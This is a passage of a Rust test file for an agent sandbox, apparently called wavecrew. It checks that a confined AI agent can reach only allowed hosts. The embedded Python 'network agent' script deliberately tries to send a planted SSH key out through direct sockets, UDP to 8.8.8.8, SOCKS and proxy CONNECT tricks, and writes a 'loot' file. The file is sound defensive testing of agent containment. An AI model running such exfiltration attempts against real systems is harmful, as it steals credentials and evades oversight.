        said.append(name + ' FAIL ' + type(e).__name__ + ': ' + str(e))
def direct():
    s = socket.create_connection(('127.0.0.1', sink), timeout=3)
    s.sendall(('DIRECT ' + key).encode())
    return 'sent'
def dns_name():
    return str(socket.getaddrinfo('example.com', 443))
def dns_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(key.encode()[:200], ('8.8.8.8', 53))
    return 'sent'
def socks():
    host, port = proxy[len('http://'):].rsplit(':', 1)
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(b'\x05\x01\x00')
    got = s.recv(16)
    if not got:
        raise ConnectionError('closed')
    return repr(got)
get = lambda target, host: ('GET ' + target + ' HTTP/1.1\r\nHost: ' + host + '\r\nX-Key: ' + key.strip() + '\r\n\r\n').encode()
attempt('DIRECT', direct)
attempt('HTTP-SINK', lambda: via_proxy(get('http://127.0.0.1:%d/' % sink, 'sink')))
attempt('CONNECT-SINK', lambda: via_proxy(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % sink).encode(), get('/', 'sink')))
attempt('CONNECT-LITERAL', lambda: via_proxy(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % allowed).encode(), get('/', 'x')))
attempt('DNS-NAME', dns_name)
attempt('DNS-UDP', dns_udp)
attempt('SOCKS', socks)
attempt('CONNECT-ALLOWED', lambda: via_proxy(('CONNECT localhost:%d HTTP/1.1\r\n\r\n' % allowed).encode(), get('/', 'localhost')))
attempt('HTTP-ALLOWED', lambda: via_proxy(get('http://localhost:%d/' % allowed, 'localhost')))
pathlib.Path('loot.txt').write_text('\n'.join(loot) + '\n')
print(' | '.join(said))
";

/// Where the network project allows `localhost:<allowed>` (by name only).
#[derive(Clone, Copy)]
enum Allowed {
    /// `[isolation] allow_hosts` in `wavecrew.toml`.
    InConfig,
    /// The task's own `allow_hosts` in the task file.
    InTask,
}

/// The network project: `NETWORK_AGENT` as IMPL-001, `localhost:<allowed>`
/// allowed where `allowed_in` says, `extra` after `[isolation]`.
fn network_project(root: &Path, sink: u16, allowed: u16, allowed_in: Allowed, extra: &str) {
    let (config_hosts, task_hosts) = match allowed_in {
        Allowed::InConfig => (
            format!("allow_hosts = [\"localhost:{allowed}\"]\n"),
            String::new(),
        ),
        Allowed::InTask => (
            String::new(),
            format!("allow_hosts = [\"localhost:{allowed}\"]\n"),
        ),
    };
    commit_project(
        root,
        &[
            (
                ".gitignore",
                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
            ),
            ("README.md", "app\n"),
            ("agent.py", NETWORK_AGENT),
            (
                "wavecrew.tasks.toml",
                &format!(
                    "goal = \"Network\"\nsession = \"TC-net\"\n\n\
                     [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write loot.txt\"\n{task_hosts}"
                ),
            ),
        ],
        &[&sink.to_string(), &allowed.to_string()],
        &format!("\n[isolation]\n{config_hosts}{extra}"),
    );
}

/// The line of the network agent's try `name`.
fn tried<'a>(said: &'a str, name: &str) -> &'a str {
    said.split(" | ")
        .find(|l| l.starts_with(&format!("{name} ")))
        .unwrap_or_else(|| panic!("no {name} in {said}"))
}

/// The network of a confined agent, in the default mode: its only way
/// out is wavecrew's egress proxy, which lets through the hosts allowed
/// (by name: an IP literal only when listed) and refuses the rest before
/// a byte reaches them; no direct connection, DNS or UDP leaves its
/// namespace, and a planted key is neither read nor sent. The attempt's
/// evidence names the hosts reached and refused.
#[test]
fn a_confined_agent_reaches_only_the_hosts_it_is_allowed() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let home = tmp.path().canonicalize().unwrap().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-KEY\n").unwrap();
    let sink = LoopbackServer::start(false);
    let allowed = LoopbackServer::start(true);
    network_project(&root, sink.port, allowed.port, Allowed::InTask, "");
    let (code, all) = run_as_user_of(&home, &root, &["run", "wavecrew.tasks.toml"], &[]);
    assert_eq!(code, Some(0), "{all}");
    assert!(
        all.contains("their network reaches only their backend's model API"),
        "the run says the network layer is on: {all}"
    );
    let session = root.join(".workflow/.team/TC-net");
    let said = stdout_of(&session, "IMPL-001");
    assert!(
        tried(&said, "PROXY").starts_with("PROXY http://127.0.0.1:"),
        "{said}"
    );
    for refused in ["DIRECT", "DNS-NAME", "DNS-UDP", "SOCKS"] {
        assert!(
            tried(&said, refused).contains(" FAIL "),
            "{refused}: {said}"
        );
    }
    for forbidden in ["HTTP-SINK", "CONNECT-SINK", "CONNECT-LITERAL"] {
        let line = tried(&said, forbidden);
        assert!(line.contains("403 Forbidden"), "{forbidden}: {said}");
        assert!(!line.contains("ok-from-allowed"), "{forbidden}: {said}");
    }
    for reached in ["CONNECT-ALLOWED", "HTTP-ALLOWED"] {
        assert!(
            tried(&said, reached).contains("ok-from-allowed"),
            "{reached}: {said}"
        );
    }
    assert_eq!(sink.received(), "", "bytes reached the sink: {said}");
    assert!(
        !allowed.received().contains("SECRET"),
        "the key was read and sent: {}",
        allowed.received()
    );
    let outcome: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(session.join("attempts/IMPL-001/1/outcome.json")).unwrap(),
    )
    .unwrap();
    let network = &outcome["network"];
    assert_eq!(network["mode"], "allowlist", "{outcome:#}");
    assert_eq!(
        network["reached"],
        serde_json::json!([format!("localhost:{}", allowed.port)]),
        "{outcome:#}"
    );
    let refused: Vec<&str> = network["refused"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(serde_json::Value::as_str)
        .collect();
    for host in [
        format!("127.0.0.1:{} not allowed", sink.port),
        format!("127.0.0.1:{} not allowed", allowed.port),
    ] {
        assert!(refused.contains(&host.as_str()), "{host}: {outcome:#}");
    }
    assert!(
        refused.iter().any(|r| r.contains("SOCKS")),
        "the SOCKS greeting is named: {outcome:#}"
    );
    // The task's result carries it in its evidence too.
    let store = wavecrew_core::FileTaskStore::for_session(&session);
    let task = store.get(&TaskId::new("IMPL-001").unwrap()).unwrap();
    let result = task.result.unwrap_or_default();
    assert_eq!(
        result["evidence"]["attempts"][0]["network"], *network,
        "{result:#}"
    );
    let loot = git(&root, &["show", "wavecrew/TC-net:loot.txt"]);
    assert!(!loot.contains("SECRET"), "a secret landed: {loot}");
}

/// `network = "none"`: the agent has no proxy and nothing leaves; `open`:
/// the machine's network, as before (the sink is reached directly).
#[test]
fn network_none_lets_nothing_out_and_open_is_the_machines_network() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let sink = LoopbackServer::start(false);
    let allowed = LoopbackServer::start(true);
    network_project(
        &root,
        sink.port,
        allowed.port,
        Allowed::InConfig,
        "network = \"none\"\n",
    );
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let (code, all) = (o.code, format!("{}{}", o.stdout, o.stderr));
    assert_eq!(code, 0, "{all}");
    assert!(all.contains("they have no network"), "{all}");
    let session = root.join(".workflow/.team/TC-net");
    let said = stdout_of(&session, "IMPL-001");
    assert_eq!(tried(&said, "PROXY"), "PROXY none", "{said}");
    assert!(tried(&said, "DIRECT").contains(" FAIL "), "{said}");
    assert_eq!(sink.received(), "", "{said}");
    let outcome =
        std::fs::read_to_string(session.join("attempts/IMPL-001/1/outcome.json")).unwrap();
    assert!(outcome.contains("\"mode\": \"none\""), "{outcome}");

    let config = root.join("wavecrew.toml");
    let text = std::fs::read_to_string(&config)
        .unwrap()
        .replace("network = \"none\"", "network = \"open\"");
    std::fs::write(&config, text).unwrap();
    let tasks = root.join("wavecrew.tasks.toml");
    let text = std::fs::read_to_string(&tasks)
        .unwrap()
        .replace("TC-net", "TC-open");
    std::fs::write(&tasks, text).unwrap();
    let session = root.join(".workflow/.team/TC-open");
    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
    let (code, all) = (o.code, format!("{}{}", o.stdout, o.stderr));
    assert_eq!(code, 0, "{all}");
    assert!(all.contains("the network is not restricted"), "{all}");
    let said = stdout_of(&session, "IMPL-001");
    assert!(tried(&said, "DIRECT").contains("DIRECT OK"), "{said}");
    assert!(sink.received().starts_with("DIRECT "), "{said}");
}

/// The whole box as people run it, as an unprivileged user (`nobody`,
/// through `setpriv`; the test runs as root): the agent's user namespace
/// maps the user to itself, its network goes only through the proxy, its
/// writes stay in its worktree and the planted key is not read.
#[test]
fn the_box_works_for_an_unprivileged_user() {
    const NOBODY: &str = "65534";
    assert!(
        nix::unistd::geteuid().is_root(),
        "this test switches to an unprivileged user, which needs root"
    );
    let tmp = TempProject::new();
    let base = tmp.path().canonicalize().unwrap();
    let root = app_root(&tmp);
    let home = base.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-KEY\n").unwrap();
    let sink = LoopbackServer::start(false);
    let allowed = LoopbackServer::start(true);
    network_project(&root, sink.port, allowed.port, Allowed::InConfig, "");
    // wavecrew and its workers and box, beside each other in a folder the
    // user can reach (hard links: no copy of the binaries).
    let bin = base.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let built = wavecrew_testkit::bin_path("wavecrew");
    for entry in std::fs::read_dir(built.parent().unwrap())
        .unwrap()
        .flatten()
    {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with("wavecrew") && !name.contains('.') && entry.path().is_file() {
            let to = bin.join(&name);
            if std::fs::hard_link(entry.path(), &to).is_err() {
                std::fs::copy(entry.path(), &to).unwrap();
            }
        }
    }
    let chown = std::process::Command::new("chown")
        .args(["-R", &format!("{NOBODY}:{NOBODY}")])
        .arg(&base)
        .status()
        .unwrap();
    assert!(chown.success());
    let out = std::process::Command::new("setpriv")
        .args(["--reuid", NOBODY, "--regid", NOBODY, "--clear-groups", "--"])
        .arg(bin.join("wavecrew"))
        .args(["run", "wavecrew.tasks.toml"])
        .current_dir(&root)
        .env_clear()
        .env("HOME", &home)
        .env("PATH", "/usr/bin:/bin")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(0), "{all}");
    assert!(
        all.contains("their network reaches only their backend's model API"),
        "{all}"
    );
    let session = root.join(".workflow/.team/TC-net");
    let said = stdout_of(&session, "IMPL-001");
    assert!(tried(&said, "DIRECT").contains(" FAIL "), "{said}");
    assert!(
        tried(&said, "HTTP-SINK").contains("403 Forbidden"),
        "{said}"
    );
    assert!(
        tried(&said, "HTTP-ALLOWED").contains("ok-from-allowed"),
        "{said}"
    );
    assert_eq!(sink.received(), "", "{said}");
    assert!(
        !allowed.received().contains("SECRET"),
        "{}",
        allowed.received()
    );
    // The repository is the user's now: root reads it by leave.
    let loot = git(
        &root,
        &["-c", "safe.directory=*", "show", "wavecrew/TC-net:loot.txt"],
    );
    assert!(!loot.contains("SECRET"), "{loot}");
}

/// Runs its arguments as a command that cannot make user namespaces, as
/// on a machine that restricts them (Ubuntu 24.04's AppArmor rule,
/// `user.max_user_namespaces = 0`): a seccomp filter answers `unshare`
/// with `EPERM`.
const WITHOUT_USER_NAMESPACES: &str = r"import ctypes, os, platform, struct, sys
EPERM, RET_ERRNO, RET_ALLOW = 1, 0x00050000, 0x7fff0000
UNSHARE = {'x86_64': 272, 'aarch64': 97}[platform.machine()]
def op(code, jt, jf, k):
    return struct.pack('HBBI', code, jt, jf, k)
prog = op(0x20, 0, 0, 0) + op(0x15, 0, 1, UNSHARE) + op(0x06, 0, 0, RET_ERRNO | EPERM)
prog += op(0x06, 0, 0, RET_ALLOW)
buf = ctypes.create_string_buffer(prog)
fprog = struct.pack('HxxxxxxQ', len(prog) // 8, ctypes.addressof(buf))
libc = ctypes.CDLL(None, use_errno=True)
if libc.prctl(38, 1, 0, 0, 0) != 0 or libc.prctl(22, 2, ctypes.c_char_p(fprog)) != 0:
    sys.exit('seccomp: %d' % ctypes.get_errno())
os.execv(sys.argv[1], sys.argv[1:])
";

/// Where agents cannot get a network of their own, `required` refuses
/// before any task, naming the layer and why; `auto` runs the task on the
/// machine's network and says so once.
#[test]
fn a_required_sandbox_refuses_to_run_without_a_network_of_its_own() {
    let tmp = TempProject::new();
    let root = app_root(&tmp);
    let sink = LoopbackServer::start(false);
    let allowed = LoopbackServer::start(true);
    network_project(
        &root,
        sink.port,
        allowed.port,
        Allowed::InConfig,
        "sandbox = \"required\"\n",
    );
    let run = |root: &Path, args: &[&str]| {
        let out = std::process::Command::new("python3")
            .args(["-c", WITHOUT_USER_NAMESPACES])
            .arg(wavecrew_testkit::bin_path("wavecrew"))
            .args(args)
            .current_dir(root)
            .env("NO_COLOR", "1")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        (
            out.status.code(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    };
    let (code, all) = run(&root, &["run", "wavecrew.tasks.toml"]);
    assert_eq!(code, Some(2), "{all}");
    assert!(
        all.contains("[isolation] sandbox = \"required\"")
            && all.contains("agents cannot get a network of their own")
            && all.contains("user namespaces"),
        "{all}"
    );
    let session = root.join(".workflow/.team/TC-net");
    assert!(
        !session.join("attempts/IMPL-001").exists(),
        "a task started: {all}"
    );
    // `auto` from the command line: the task runs, the network said open.
    let (code, all) = run(&root, &["run", "wavecrew.tasks.toml", "--sandbox", "auto"]);
    assert_eq!(code, Some(0), "{all}");
    assert_eq!(
        all.matches("the network is not restricted: agents cannot get a network of their own")
            .count(),
        1,
        "{all}"
    );
    let said = stdout_of(&session, "IMPL-001");
    assert!(tried(&said, "DIRECT").contains("DIRECT OK"), "{said}");
    // And `--sandbox required` on a machine that has every layer runs.
    let o = run_bin(
        "wavecrew",
        &["run", "wavecrew.tasks.toml", "--sandbox", "required"],
        &root,
    );
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
}
